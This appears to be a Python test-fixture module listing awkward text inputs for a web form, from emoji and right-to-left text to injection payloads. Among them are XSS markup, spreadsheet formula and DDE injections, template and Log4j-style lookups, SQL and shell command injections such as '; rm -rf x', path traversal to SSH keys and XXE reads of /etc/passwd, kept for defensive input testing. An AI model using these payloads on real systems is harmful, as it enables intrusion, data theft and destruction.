"""The text corpus: what people, copy and paste, and attackers put into a box, by category.

`CORPUS` holds texts as they are typed; `kept()` those that get in, in their normal form,
each once; `REFUSED` those that
do not. Payloads that would run call `tripwire()`.
"""

from __future__ import annotations

import itertools
import os

from workshop.forms.texts import fits, normalise

WHOLE = os.environ.get("STARTDAG_CORPUS") == "whole"
LONGEST = 500

SKIN = "🏻🏼🏽🏾🏿"
JOINED = [
    "👨\u200d👩\u200d👧\u200d👦", "👩\u200d❤️\u200d💋\u200d👩", "👩🏻\u200d❤️\u200d💋\u200d👩🏿", "🏳️\u200d🌈",
    "🏳️\u200d⚧️", "🏴\u200d☠️", "🐻\u200d❄️",
    "👨🏽\u200d🦽\u200d➡️", "🧑\u200d🧑\u200d🧒\u200d🧒", "🙂\u200d↔️", "👁️\u200d🗨️", "🧑🏾\u200d🤝\u200d🧑🏻", "⛓️\u200d💥",
    "🍄\u200d🟫",
]  # fmt: skip
REGIONS = ("gbeng", "gbsct", "gbwls")
COUNTRIES = ("NL", "BE", "DE", "FR", "AW", "CW", "SX", "SR", "ID", "TR", "MA", "PL", "UA", "SY", "EU", "UN", "XX")


def flag(country: str) -> str:
    """The letters of a flag."""
    return "".join(chr(0x1F1E6 + ord(letter) - ord("A")) for letter in country)


def tagged(region: str) -> str:
    """A flag of a region: a black flag, tags, the end."""
    return "\U0001f3f4" + "".join(chr(0xE0000 + ord(letter)) for letter in region) + "\U000e007f"


SCRIPTS = ["alert(1)", "tripwire()"]
MARKUP = [
    "<script>{0}</script>", "<script src=//x.nl></script>", "<img src=x onerror={0}>", "<svg onload={0}>",
    "<svg><script>{0}</script>",
    "<iframe srcdoc='<script>{0}</script>'>", "<body onload={0}>", "<a href=javascript:{0}>klik</a>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>", "<math><mtext></p><img src=x onerror={0}>",
    "<template><script>{0}</script></template>",
    "</textarea><script>{0}</script>", "</script><script>{0}</script>", "--><img src=x onerror={0}>",
    "\"><img src=x onerror={0}>",
    "'><svg onload={0}>", "' onmouseover='{0}", '" onfocus="{0}" autofocus="', "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "<style>@import'//x.nl'</style>", "<style>*{{background:url(//x.nl)}}</style>", "<base href=//x.nl>",
    "<link rel=stylesheet href=//x.nl>",
    "<meta http-equiv=refresh content='0;url=//x.nl'>", "<object data=javascript:{0}>", "<embed src=//x.nl>",
    "<form action=//x.nl><button>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<![CDATA[<img src=x onerror={0}>]]>",
    "<?xml version='1.0'?>",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}", "\\u003cscript\\u003e{0}",
    "%3Cscript%3E{0}%3C/script%3E",
    "<scr<script>ipt>{0}</script>", "<IMG SRC=JaVaScRiPt:{0}>", "<ＳＣＲＩＰＴ>{0}", "${{{0}}}", "`-{0}-`",
    "';{0}//", "\\';{0}//", "\");{0}//",
    "<video><source onerror={0}>", "<audio src=x onerror={0}>", "<marquee onstart={0}>",
    "<xss style='animation-name:x' onanimationstart={0}>",
    "<lit-html>", "<!--?lit$123$-->", "{{{{constructor.constructor('{0}')()}}}}",
]  # fmt: skip

CORPUS: dict[str, list[str]] = {
    "words": [
        "undefined", "null", "None", "NaN", "true", "False", "-0", "0x1F", "1e309", "1/0", "Infinity", "nil",
        "[]", "{}", "[object Object]",
        "hasOwnProperty", "__proto__", "constructor", "toString", "NULL", "COM1", "0", "00", "1,000.5",
        "$1.00", "€ 1.000,50", "½ ⅔ ¾", "①②③",
        "²³⁴", "١٢٣٤", "१२३", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ", "¡™£¢∞§¶•ªº–≠", "‘’‚“”„«»‹›", "'",
        '"', "''", '""', "`", "´", "\\", "/", "|",
        "--", "—", "…", ".", ",", ";", ":", "?", "¿", "!", "~", "^", "&", "&&", "%", "#", "*", "(", ")", "[",
        "]", "{", "}", "<", ">", "<>", "$", "@", "_", "=",
        "Łódź naïve Œuvre", "IJsselmeer ĳ Ĳ", "Straße STRASSE ẞ", "İstanbul ıI", "ﬁ ﬂ ﬀ", "Ǆ ǅ ǆ", "Å Å Å",
        "é e\u0301", "Ａ ｂ １", "𝕿𝖊𝖘𝖙 𝓽𝓮𝔁𝓽", "ᴮᴵᴳ", "𐍈𐌰", "𠜎 𠜱 𠝹", "田中さん", "한국어",
        "ไทย ภาษา", "हिन्दी क्षत्रिय", "தமிழ்", "ქართული", "հայերեն", "አማርኛ", "ᠮᠣᠩᠭᠣᠯ", "བོད་སྐད་",
    ],
    "emoji": [
        *(chr(code) for code in range(0x1F600, 0x1F640, 2)), *JOINED, *(f"👍{tone}" for tone in SKIN),
        *(f"🧑{tone}\u200d🚀" for tone in SKIN),
        *map(flag, COUNTRIES), *map(tagged, REGIONS), *(f"{key}\ufe0f\u20e3" for key in "0123456789*#"),
        "☺ ☺\ufe0e ☺\ufe0f", "❤ ❤️", "©️ ™️",
        "👨👩👧 los", "🏽", "👍🏽🏽", "🇳🇱🇧", "🇳", "\u200d", "a\u200db", "❤️\u200d", "🎉" * 60,
    ],
    "right to left": [
        "مرحبا بالعالم", "שלום עולם", "سلام دنیا", "می\u200cخواهم", "ދިވެހި", "ܫܠܡܐ", "abc שלום 123 def",
        "123 مرحبا 456", "(שלום)", "שלום!", "עִבְרִית מְנֻקֶּדֶת", "ﷺ ﷽",
        "\u202eomgekeerd\u202c", "\u2067ook\u2069", "\u200fnaar rechts\u200e", "txt.\u202egpj.exe",
        "\u2066\u202e\u2069 genest", "Kees \u061c Jan", "مَرْحَبًا",
    ],
    "not to be seen": [
        "zacht\u00adafbreken", "nul\u200bbreed", "woord\u2060voeger", "\ufeffmerk vooraan", "midden\ufeffin",
        "a\u180eb", "hangul\u3164vuller", "braille\u2800leeg", "halve\uffa0vuller",
        "lang\u2003e\u2009spatie", "niet\u00a0breken", "smal\u202fniet", "a\u034fb", "toon\u2061functie",
        "tag\U000e0041\U000e0042weg", "\U0001d159noot", "a\u17b4b", "x\ufe00\ufe01\ufe02",
        "\u200c\u200d\u200c",
        "regel\u2028breuk", "alinea\u2029breuk", "tab\tstop", "regel\nbreuk", "wagen\r\nterug",
        "pagina\feinde", "\u206aoud\u206f",
    ],
    "piled up": [
        *(f"q{mark * many}" for mark, many in itertools.product(("\u0301", "\u0323", "\u0335", "\u20dd"), (1, 8, 60))),
        "Z̴̢̛͖a̷͈͋l̶̰̈g̵̣̔o̸̲͂", "q̷̡̧̛͖̣͔̽̈́̒z̸", "\u0301los", "a\u0489\u0489\u0489", "🎉\u0301\u0302",
        "e\u0301\u0323" * 40, "ཀུུུུུུུུ", "ก็็็็็็็็็็็็",
    ],
    "formulas": [
        "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1",
        "=HYPERLINK(\"http://x.nl\",\"klik\")", "=cmd|' /C calc'!A0", "=IMPORTXML(\"http://x.nl\",\"//a\")",
        "=WEBSERVICE(\"http://x.nl\")", "+cmd|'/C x'!A1", "-2+3+cmd|' /C x'!D2", "@x", "=\"\"", "==", "=A1",
        "＝1+1", "|=1", "%0A=1", "{=1+1}", "=1;=1", "=1,\"=2\"", "\"=1\"", "'=1",
        "a,b,c", "a;b;c", "\"a\"\"b\"", "a\tb", "\"", ",", ";;;",
    ],
    "typst": [
        "#read(\"/etc/passwd\")", "#include \"x.typ\"", "#import \"@preview/x:1.0.0\": *",
        "#image(\"/etc/passwd\")", "#link(\"javascript:alert(1)\")[klik]", "#eval(\"1+1\")", "#sys.version",
        "#{1+1}", "#let x = 1", "#set text(red)", "#show: x => x", "$x^2$", "$ sum_(i=0)^n $", "@label",
        "<label>", "= Kop", "== Kop", "- punt", "+ punt", "/ term: uitleg", "*vet*", "_schuin_",
        "`code`", "```code```", "// weg", "/* weg */", "\\", "\\u{1F600}", "---", "--", "~", "...", "'s",
        "http://x.nl", "#", "##", "#[x]", "#\"x\"", "[x]", "#pagebreak()", "#plugin(\"x.wasm\")",
        "#panic()", "#lorem(9999)",
    ],
    "markdown": [
        "# kop", "###### kop", "> citaat", "- punt", "* punt", "+ punt", "1. een", "1) een", "-  [ ] taak",
        "***", "___", "---", "===", "kop\n===", "kop\n---", "[klik](javascript:alert(1))", "[klik][x]",
        "[x]: http://x.nl", "![plaatje](http://x.nl/y.png)", "![](file:///etc/passwd)", "<http://x.nl>",
        "<a@x.nl>", "http://x.nl/pad?a=1&b=2", "https://x.nl", "www.x.nl", "a@x.nl", "ftp://x.nl",
        "mailto:a@x.nl", "**vet**", "__vet__", "*schuin*", "~~weg~~", "`code`", "``` code", "~~~",
        "    vier spaties", "| a | b |", "a | b\n-|-\n1 | 2", "[^1]", "[^1]: noot", "\\*", "\\\\", "a\\",
        "&lt;", "&amp;",
        "&#35;", "&copy;", "<!-- weg -->", "<br>", "$x$", "$$x$$", "\\(x\\)", ":smile:", "{#id .klas}",
        "::: {.x}", "`<b>`{=html}", "```{=openxml}", "\\input{/etc/passwd}", "\\write18{x}",
        "---\ntitle: x\n---",
        "Term\n: uitleg", "H~2~O x^2^", "[[wiki]]", "==geel==", "regel  \nbreuk", "regel\\\nbreuk", "1\\. een",
        "a\n\nb", "1986\\. Wat een jaar", "1986. Wat een jaar", "+1 voor dit", "- - -", "# ", "#geen kop",
    ],
    "scripts": [shape.format(script) for shape in MARKUP for script in SCRIPTS],
    "templates": [
        "{{7*7}}", "{{ config }}", "{% raw %}", "{# weg #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%d%n%x",
        "%(x)s", "{0}", "{0.__class__}", "{}", "{x!r:>{y}}", "@{7*7}", "*{7*7}", "[[7*7]]", "$(id)", "`id`",
        "{{''.__class__.__mro__}}", "{{request.application}}", "{{self}}", "${{7*7}}", "#set($x=1)",
        "{php}1{/php}", "<#assign x=1>", "${jndi:ldap://x.nl}", "$HOME", "%PATH%", "!!python/object:x",
        "&a [*a]",
    ],
    "queries": [
        "'; DROP TABLE idea; --", "' OR '1'='1", "1; SELECT 1", "\" OR \"\"=\"", "admin'--",
        "') UNION SELECT 1--", "{\"$gt\":\"\"}", "{\"$ne\":null}", "*)(uid=*", "| cat /etc/passwd",
        "; rm -rf x", "&& id",
        "\\x00", "\\0", "%00", "%0d%0aSet-Cookie: x=1", "\\r\\nx", "x\\ny", "\\u0000", "\\ud800",
        "SELECT * FROM t WHERE a LIKE '%_'",
    ],
    "files": [
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\x",
        "\\\\server\\share", "file:///etc/passwd", "con", "nul.txt", "aux", "~/.ssh/id_rsa", ".", "..", "...",
        ".htaccess",
        "a/b/c.pdf", "naam.pdf.exe", "x" * 255 + ".pdf", "spatie aan eind .", "per%2fcent", "....//....//",
        "CON.docx", "a:b", "a?b*c", "verslag.md;x",
    ],
    "long": [
        "x" * 500, "w" * 499 + "!", "woord " * 83, "Hottentottensoldatententententoonstellingsterrein" * 10,
        "https://voorbeeld.nl/" + "pad/" * 119, "-" * 500, "_" * 500, "." * 500, "é" * 500, "漢" * 500,
        "W" * 300, "i" * 500, "🎉" * 500, "ﷺ" * 40, "a\n" * 250, "\u00ad".join("woorddelen" * 45),
        "\u200b".join("x" * 240), "a/" * 250, "(" * 250 + ")" * 250, "\u0645" * 500,
        "👨\u200d👩\u200d👧\u200d👦" * 100,
    ],
    "documents": [
        "\\input{/etc/passwd}", "\\include{x}", "\\immediate\\write18{id}", "\\def\\x{\\x}\\x", "\\begin{document}",
        "\\end{document}", "\\verb|x|", "\\href{http://x.nl}{klik}", "\\usepackage{x}", "\\catcode`\\@=11",
        "$\\frac{1}{0}$", "\\[x\\]", "\\newcommand{\\x}{y}", "% weg", "a % b", "\\%", "\\textbf{vet}", "{\\rtf1 x}",
        "^^41", "\\directlua{os.exit()}", "</w:t></w:r></w:p><w:p>", "<w:fldSimple w:instr=\"DDEAUTO c:\\x\"/>",
        "<w:hyperlink r:id=\"rId1\">", "]]></w:t>", "<w:br w:type=\"page\"/>",
        "<w:instrText>INCLUDETEXT</w:instrText>", "{ DDEAUTO c:\\\\x }", "{ INCLUDEPICTURE \"http://x.nl\" }",
        "<a:blip r:embed=\"rId9\"/>", "descr=\"data:x\"", "w:val=\"Title\"", "<w:pStyle w:val=\"Logo\"/>",
        "</text:p><text:p>", "<text:h text:outline-level=\"1\">kop</text:h>",
        "<text:list text:style-name=\"L1\"><text:list-item>", "<office:scripts/>", "<draw:frame></draw:frame>",
        "<draw:image xlink:href=\"http://x.nl\"/>", "<text:a xlink:href=\"x\">", "<text:p text:style-name=\"Title\">",
        "text:style-name=\"Idee_20_1_20_open\"", "<svg:title>x</svg:title>", "_20_", "\\1\\g<0>", "$1$&",
        "&lt;text:p&gt;", "&#x3c;w:p&#x3e;", "&amp;amp;", "&quot;", "&apos;", "&nbsp;", "&euro;", "&x;",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "<!ENTITY x \"y\">", "<?php x ?>",
        "<?xml-stylesheet href='x'?>", "<![CDATA[x]]>", "]]>", "<x xmlns=\"y\"/>", "xmlns:x=\"y\"",
        "<xi:include href=\"x\"/>", "<xsl:template match=\"/\">", "</title><rect/>",
        "</text><image href=\"file:///etc/passwd\"/>", "</desc></svg>", "<use href=\"#s1\"/>", "font-size=\"99\"",
        "\" onload=\"x", "' viewBox='0 0 1 1", "<foreignObject><b>x</b></foreignObject>", "\")#read(\"x\")(\"",
        "\"); #panic(); (\"", "]#text(red)[", "#sys.inputs.report", "json(bytes(sys.inputs.report))", "#metadata(1)",
        "#counter(page).update(9)", "#place(top)[x]", "#context here()", "#set page(width: 1pt)",
        "#show regex(\".\"): none", "#bibliography(\"x\")", "#raw(read(\"x\"))", "<b-uitwerking>", "@b-uitwerking",
        "#label(\"x\")", "\\#", "\\*", "\\_x\\_", "\\u{23}read", "[klik]{custom-style=\"Title\"}",
        "::: {custom-style=\"Title\"}", "{custom-style=Title}", "custom-style", "RawBlock", "RawInline openxml",
        "{\"t\":\"RawInline\",\"c\":[\"openxml\",\"<w:br/>\"]}", "`<w:br/>`{=openxml}",
        "```{=opendocument}\n<text:p/>\n```", "$if(x)$", "${x}", '["custom-style", "Te doen"]', "$body$",
        "--lua-filter=x", "+RTS -M1", "@doi:10.1",
        "[@x, p. 3]", "^[noot]", "\\newpage", "!include x", "{{< include x >}}", "{.unnumbered}", "[x]{.smallcaps}",
    ],
}  # fmt: skip

REFUSED = [
    "a\x00b",
    "\x1b[31mrood",
    "\x07",
    "\x08",
    "\x7f",
    "\x9b31m",
    "\ud800",
    "\udfff",
    "\uffff",
    "\ufffe",
    "\U0010ffff",
    "\ufdd0",
]
NOTHING = [
    "",
    " ",
    "\u200b",
    "\u2060\ufeff",
    "\u3164",
    "\u2800",
    "\U000e0041\U000e0042",
    "\u00ad",
    "\ufe0f",
    "\u202e",
    "\n\n",
    "\u180e",
    "\u034f",
]


MARKUP_OF_DOCUMENTS = ("typst", "markdown", "scripts", "templates", "formulas", "documents", "queries", "files")
"""What would be markup, a formula, a query or a path in one of the formats a verslag is written in."""


def injections() -> list[str]:
    """The texts that would be markup in a document, as they are kept, each once."""
    found = (normalise(text, lines=True) for name in MARKUP_OF_DOCUMENTS for text in CORPUS[name])
    return list(dict.fromkeys(text for text in found if text))


def kept() -> list[str]:
    """The texts that get in, as they are kept, each once."""
    found = (normalise(text, lines=True) for texts in CORPUS.values() for text in texts)
    return list(dict.fromkeys(text for text in found if text))


def some() -> list[str]:
    """All that fit in an idea for the long run, else an even draw from every category."""
    fitting = [text for text in kept() if fits(text, LONGEST)]
    return fitting if WHOLE else [text for nth, text in enumerate(fitting) if nth % 3 == 0]
